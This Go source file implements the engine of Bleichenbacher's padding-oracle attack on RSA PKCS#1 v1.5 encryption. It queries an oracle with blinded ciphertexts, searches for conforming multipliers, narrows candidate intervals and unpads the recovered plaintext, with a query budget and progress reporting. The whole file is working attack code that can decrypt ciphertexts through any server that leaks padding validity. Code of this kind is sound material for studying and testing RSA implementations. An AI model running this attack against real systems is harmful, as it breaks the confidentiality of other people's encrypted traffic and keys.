package bleichenbacher

import (
	"context"
	"fmt"
	"math/big"
	"sync/atomic"

	"github.com/pkg/errors"

	"github.com/mahdiidarabi/rsa-pkcs1-oracle/pkg/rsapkcs1"
)

var (
	one   = big.NewInt(1)
	two   = big.NewInt(2)
	three = big.NewInt(3)
)

var (
	// ErrPrecondition is returned when the target ciphertext itself is
	// rejected by the oracle; the attack does not apply.
	ErrPrecondition = errors.New("target ciphertext is not PKCS#1 conforming")

	// ErrCiphertextRange is returned when the ciphertext is longer than the
	// modulus or not smaller than it.
	ErrCiphertextRange = errors.New("ciphertext out of range for modulus")

	// ErrSearchExhausted is returned when a search range or the query budget
	// runs out without an accepted trial multiplier.
	ErrSearchExhausted = errors.New("search exhausted without an accepted multiplier")

	// ErrEmptyIntervalSet is returned when an update leaves no candidate,
	// which means the oracle answered inconsistently.
	ErrEmptyIntervalSet = errors.New("interval set became empty")

	// ErrInvariantViolation is returned when the converged value does not
	// unpad. The error also matches rsapkcs1.ErrInvalidPadding.
	ErrInvariantViolation = errors.New("recovered value is not a padded block")
)

// invariantError marks a final unpad failure while keeping the padding error
// reachable through Unwrap.
type invariantError struct {
	cause error
}

func (e *invariantError) Error() string {
	return ErrInvariantViolation.Error() + ": " + e.cause.Error()
}

func (e *invariantError) Is(target error) bool {
	return target == ErrInvariantViolation
}

func (e *invariantError) Unwrap() error {
	return e.cause
}

// engine holds the state of one attack run.
type engine struct {
	oracle  rsapkcs1.Oracle
	scanner Scanner
	config  Config

	k       int
	n, e, c *big.Int

	// 2B, 3B and 3B-1 with B = 2^(8(k-2))
	twoB, threeB, threeBMinus1 *big.Int

	s       *big.Int
	m       IntervalSet
	i       int
	queries int64
}

func newEngine(ciphertext []byte, pub *rsapkcs1.PublicKey, oracle rsapkcs1.Oracle, scanner Scanner, config Config) (*engine, error) {
	if err := pub.Validate(); err != nil {
		return nil, errors.Wrap(err, "invalid public key")
	}
	k := pub.Size()
	if len(ciphertext) > k {
		return nil, errors.Wrapf(ErrCiphertextRange, "%d bytes for a %d-byte modulus", len(ciphertext), k)
	}
	c := new(big.Int).SetBytes(ciphertext)
	if c.Cmp(pub.N) >= 0 {
		return nil, ErrCiphertextRange
	}

	b := new(big.Int).Lsh(one, uint(8*(k-2)))
	twoB := new(big.Int).Mul(two, b)
	threeB := new(big.Int).Mul(three, b)
	threeBMinus1 := new(big.Int).Sub(threeB, one)

	return &engine{
		oracle:       oracle,
		scanner:      scanner,
		config:       config.withDefaults(),
		k:            k,
		n:            new(big.Int).Set(pub.N),
		e:            new(big.Int).Set(pub.E),
		c:            c,
		twoB:         twoB,
		threeB:       threeB,
		threeBMinus1: threeBMinus1,
		s:            big.NewInt(1),
		m:            IntervalSet{NewInterval(twoB, threeBMinus1)},
		i:            1,
	}, nil
}

// run performs the attack until the interval set narrows to one value.
func (e *engine) run(ctx context.Context) (*Result, error) {
	ok, err := e.conforming(one)
	if err != nil {
		return nil, err
	}
	if !ok {
		return nil, ErrPrecondition
	}

	for {
		if _, done := e.m.Value(); done {
			break
		}

		var s *big.Int
		switch {
		case e.i == 1:
			s, err = e.searchInitial(ctx)
		case len(e.m) > 1:
			s, err = e.searchMany(ctx)
		default:
			s, err = e.searchOne(ctx, e.m[0])
		}
		if err != nil {
			return nil, err
		}

		next := e.narrow(s)
		if len(next) == 0 {
			return nil, errors.Wrapf(ErrEmptyIntervalSet, "iteration %d, s=%s", e.i, s)
		}
		e.s = s
		e.m = next
		e.i++
		e.report()
	}

	return e.finish()
}

// conforming queries the oracle with c⋅sᵉ mod n.
func (e *engine) conforming(s *big.Int) (bool, error) {
	if budget := e.config.MaxQueries; budget > 0 {
		if atomic.AddInt64(&e.queries, 1) > budget {
			atomic.AddInt64(&e.queries, -1)
			return false, errors.Wrapf(ErrSearchExhausted, "query budget of %d spent", budget)
		}
	} else {
		atomic.AddInt64(&e.queries, 1)
	}

	trial := new(big.Int).Exp(s, e.e, e.n)
	trial.Mul(trial, e.c)
	trial.Mod(trial, e.n)
	return e.oracle.Query(trial.FillBytes(make([]byte, e.k))), nil
}

// searchInitial finds the smallest accepted s ≥ ⌈n / 3B⌉.
func (e *engine) searchInitial(ctx context.Context) (*big.Int, error) {
	lo := ceilDiv(e.n, e.threeB)
	s, err := e.scanUpTo(ctx, lo)
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(e.config.Progress, "s_1=%s\n", s)
	return s, nil
}

// searchMany finds the smallest accepted s > previous s.
func (e *engine) searchMany(ctx context.Context) (*big.Int, error) {
	return e.scanUpTo(ctx, new(big.Int).Add(e.s, one))
}

// scanUpTo scans [lo, n-1]; s and s+n give the same trial ciphertext, so
// nothing beyond n is worth testing.
func (e *engine) scanUpTo(ctx context.Context, lo *big.Int) (*big.Int, error) {
	hi := new(big.Int).Sub(e.n, one)
	s, err := e.scan(ctx, lo, hi)
	if err != nil {
		return nil, err
	}
	if s == nil {
		return nil, errors.Wrapf(ErrSearchExhausted, "no multiplier in [%s, n)", lo)
	}
	return s, nil
}

// scan runs the scanner over [lo, hi], cut short to the candidates the query
// budget still covers so that a scanner never runs out of queries midway.
func (e *engine) scan(ctx context.Context, lo, hi *big.Int) (*big.Int, error) {
	budget := e.config.MaxQueries
	if budget <= 0 {
		return e.scanner.Scan(ctx, lo, hi, e.conforming)
	}

	left := budget - atomic.LoadInt64(&e.queries)
	if left <= 0 {
		return nil, errors.Wrapf(ErrSearchExhausted, "query budget of %d spent", budget)
	}
	last := new(big.Int).Add(lo, big.NewInt(left-1))
	if last.Cmp(hi) >= 0 {
		return e.scanner.Scan(ctx, lo, hi, e.conforming)
	}

	s, err := e.scanner.Scan(ctx, lo, last, e.conforming)
	if err != nil || s != nil {
		return s, err
	}
	return nil, errors.Wrapf(ErrSearchExhausted, "query budget of %d spent", budget)
}

// searchOne uses the bounds of the single interval [a, b] to test only
// multipliers that can map it back into [2B, 3B).
func (e *engine) searchOne(ctx context.Context, iv Interval) (*big.Int, error) {
	// r = ⌈2(b⋅s - 2B) / n⌉
	r := new(big.Int).Mul(iv.B, e.s)
	r.Sub(r, e.twoB)
	r.Mul(r, two)
	r = ceilDiv(r, e.n)

	rn := new(big.Int)
	for step := 0; step < e.config.MaxRatioSteps; step++ {
		if err := ctx.Err(); err != nil {
			return nil, errors.Wrap(err, "search cancelled")
		}
		rn.Mul(r, e.n)

		// ⌈(2B + r⋅n) / b⌉ ≤ s ≤ ⌊(3B + r⋅n) / a⌋
		lo := ceilDiv(new(big.Int).Add(e.twoB, rn), iv.B)
		hi := floorDiv(new(big.Int).Add(e.threeB, rn), iv.A)

		s, err := e.scan(ctx, lo, hi)
		if err != nil {
			return nil, err
		}
		if s != nil {
			return s, nil
		}
		r.Add(r, one)
	}
	return nil, errors.Wrapf(ErrSearchExhausted, "no multiplier after %d values of r", e.config.MaxRatioSteps)
}

// narrow computes the next interval set for the accepted multiplier s.
func (e *engine) narrow(s *big.Int) IntervalSet {
	next := make(IntervalSet, 0, len(e.m))
	rn := new(big.Int)
	for _, iv := range e.m {
		// ⌈(a⋅s - 3B + 1) / n⌉ ≤ r ≤ ⌊(b⋅s - 2B) / n⌋
		r := new(big.Int).Mul(iv.A, s)
		r.Sub(r, e.threeBMinus1)
		r = ceilDiv(r, e.n)

		rMax := new(big.Int).Mul(iv.B, s)
		rMax.Sub(rMax, e.twoB)
		rMax = floorDiv(rMax, e.n)

		for ; r.Cmp(rMax) <= 0; r.Add(r, one) {
			rn.Mul(r, e.n)

			a := ceilDiv(new(big.Int).Add(e.twoB, rn), s)
			if a.Cmp(iv.A) < 0 {
				a = iv.A
			}
			b := floorDiv(new(big.Int).Add(e.threeBMinus1, rn), s)
			if b.Cmp(iv.B) > 0 {
				b = iv.B
			}
			if a.Cmp(b) <= 0 {
				next = append(next, Interval{A: a, B: b})
			}
		}
	}
	return next
}

// report publishes progress after an interval update.
func (e *engine) report() {
	mass := e.m.Mass()
	queries := atomic.LoadInt64(&e.queries)
	if e.i%e.config.ProgressEvery == 0 {
		fmt.Fprintf(e.config.Progress, "i=%d |M|=%d ||M||=%s queries=%d\n", e.i, len(e.m), mass, queries)
	}
	if e.config.OnIteration != nil {
		e.config.OnIteration(Progress{
			Iteration: e.i,
			S:         new(big.Int).Set(e.s),
			Intervals: e.m,
			Mass:      mass,
			Queries:   queries,
		})
	}
}

// finish unpads the converged value.
func (e *engine) finish() (*Result, error) {
	value, _ := e.m.Value()
	plaintext, err := rsapkcs1.Unpad(value.Bytes(), e.k)
	if err != nil {
		return nil, &invariantError{cause: err}
	}
	return &Result{
		Plaintext:  plaintext,
		Padded:     new(big.Int).Set(value),
		S:          new(big.Int).Set(e.s),
		Iterations: e.i,
		Queries:    atomic.LoadInt64(&e.queries),
	}, nil
}

// ceilDiv returns ⌈x / y⌉ for y > 0.
func ceilDiv(x, y *big.Int) *big.Int {
	q := new(big.Int).Add(x, y)
	q.Sub(q, one)
	return q.Div(q, y)
}

// floorDiv returns ⌊x / y⌋ for y > 0.
func floorDiv(x, y *big.Int) *big.Int {
	return new(big.Int).Div(x, y)
}
